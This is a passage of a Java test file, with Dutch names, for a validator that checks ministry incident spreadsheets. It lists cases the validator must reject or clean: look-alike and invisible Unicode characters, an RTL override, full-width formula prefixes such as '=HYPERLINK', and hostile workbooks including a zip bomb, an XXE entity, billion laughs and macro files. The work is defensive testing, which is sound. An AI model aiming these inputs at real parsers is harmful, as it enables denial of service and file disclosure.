                tekst(KOP + "\nLijkt Op;g\nLijkt \u041Ep;h\nLijkt Op;a\n"), WAARDE_LIJKT_OP, 3L, "onderdeel"));
        g.add(ok("incidenten: onderdeel met spatie zonder breedte en harde spatie", "nul-breedte.csv",
                tekst(KOP + "\nNul Breedte;g\nNul\u200B\u00A0Breedte;h\n"), ONZICHTBARE_TEKENS_VERWIJDERD, 3L, "onderdeel"));
        g.add(ok("omkeerteken (RTL-override) in vrije tekst", "rtl-tekst.csv",
                tekst("onderdeel;categorie;omschrijving\nRtl tekst;g;Bedrag \u202E0001\u202C euro\n"),
                ONZICHTBARE_TEKENS_VERWIJDERD, 2L, "omschrijving"));
        g.add(ok("formule met een volbreedte-isteken", "volbreedte.csv",
                tekst(KOP + "\n\uFF1DHYPERLINK(1);g\n\uFF0BPlus(1);g\n\uFF0DMin(1);g\n\uFF20Apenstaart(1);g\n"), null, null, null));
        g.add(afFin("ministerie in bestand 'FİN' (I met punt)", "ministerie-fin.csv",
                tekst("onderdeel;ministerie;categorie\nDouane;F\u0130N;g\n"), MINISTERIE_WIJKT_AF, 2L, "ministerie"));
        g.add(genegeerd("map 'ſZW' (lange s) is geen SZW", "\u017FZW/2023", "incidenten.csv", tekst(KOP + "\nLange s;g\n")));
        // --- hostile workbooks (issue 11 item 2): refused with one Dutch fout for the whole file, or read
        g.add(af("werkmap: zip-bom (2 GiB uitgepakt)", "zip-bom.xlsx", p -> VijandigeWerkmappen.zipBom().schrijf(p),
                LIMIET_OVERSCHREDEN, 0L, null));
        g.add(af("werkmap: externe entiteit (XXE)", "entiteit-xxe.xlsx", p -> VijandigeWerkmappen.xxe().schrijf(p), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("werkmap: miljard lachjes", "lachjes.xlsx", p -> VijandigeWerkmappen.miljardLachjes().schrijf(p),
                BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("werkmap: meer regels dan de limiet (10 kolommen)", "cellen.xlsx",
                p -> VijandigeWerkmappen.cellen((int) MAX_RIJEN + 200, "C-").schrijf(p), LIMIET_OVERSCHREDEN, 0L, null));
        g.add(af("werkmap: 200 bladen", "bladen.xlsx", p -> VijandigeWerkmappen.veelBladen(200).schrijf(p), LIMIET_OVERSCHREDEN, 0L, null));
        g.add(af("werkmap: met wachtwoord", "wachtwoord.xlsx", bytes(VijandigeWerkmappen.metWachtwoord()), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("werkmap: oud .xls", "oud.xls", bytes(VijandigeWerkmappen.xls()), BESTAND_ONLEESBAAR, 0L, null));
        g.add(af("werkmap: .xlsm met macro's", "macro.xlsm", p -> VijandigeWerkmappen.metMacros().schrijf(p), BESTAND_ONLEESBAAR, 0L, null));
        g.add(ok("werkmap: grafiekblad naast het formulier", "grafiek.xlsx", p -> VijandigeWerkmappen.metGrafiek("WERKMAP-G-1").schrijf(p),
                null, null, null));
        return g;
    }

    private static Geval afBzkCopy() {
        // sorts after incidenten.csv, so the good file is processed first and stays the original
        return new Geval("kopie van een goed bestand", AFGEKEURD_BZK, "zz kopie van incidenten.csv",
                (Path p) -> Files.copy(goed("BZK/2023/incidenten.csv"), p), AFGEKEURD, BESTAND_DUBBEL, 0L, null);
    }

    static Path goed(String pad) {
        try {
            return Path.of(Corpus.class.getResource("/vijandig/goed/" + pad).toURI());
        } catch (java.net.URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    private static Geval af(String soort, String naam, Geval.Inhoud inhoud, BevindingCode code, Long regel, String kolom) {
        return new Geval(soort, AFGEKEURD_BZK, naam, inhoud, AFGEKEURD, code, regel, kolom);
    }

    private static Geval afFin(String soort, String naam, Geval.Inhoud inhoud, BevindingCode code, Long regel, String kolom) {
        return new Geval(soort, AFGEKEURD_FIN, naam, inhoud, AFGEKEURD, code, regel, kolom);
    }

    private static Geval ok(String soort, String naam, Geval.Inhoud inhoud, BevindingCode code, Long regel, String kolom) {
        return new Geval(soort, GEACCEPTEERD_MAP, naam, inhoud, GEACCEPTEERD, code, regel, kolom);
    }

    private static Geval genegeerd(String soort, String map, String naam, Geval.Inhoud inhoud) {
        return new Geval(soort, map, naam, inhoud, GENEGEERD, null, null, null);
    }

    private static Geval.Inhoud tekst(String s) {
        return bytes(s.getBytes(StandardCharsets.UTF_8));
    }

    private static Geval.Inhoud bytes(byte[] b) {
        return (Path p) -> Files.write(p, b);
    }

    static byte[] willekeurig(int n, long seed) {
        byte[] b = new byte[n];
        new Random(seed).nextBytes(b);
        return b;
    }

    private static byte[] concat(byte[]... delen) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] d : delen) {
            out.writeBytes(d);
        }
        return out.toByteArray();
    }

    private static byte[] gzip(String s) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream z = new GZIPOutputStream(out)) {
            z.write(s.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A minimal zip laid out like an .xlsx workbook. */
    private static byte[] xlsx() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(out)) {
            z.putNextEntry(new ZipEntry("[Content_Types].xml"));
            z.write("<?xml version=\"1.0\"?><Types/>".getBytes(StandardCharsets.UTF_8));
            z.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            z.write("<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>onderdeel</t></is></c></row></sheetData></worksheet>"
                    .getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
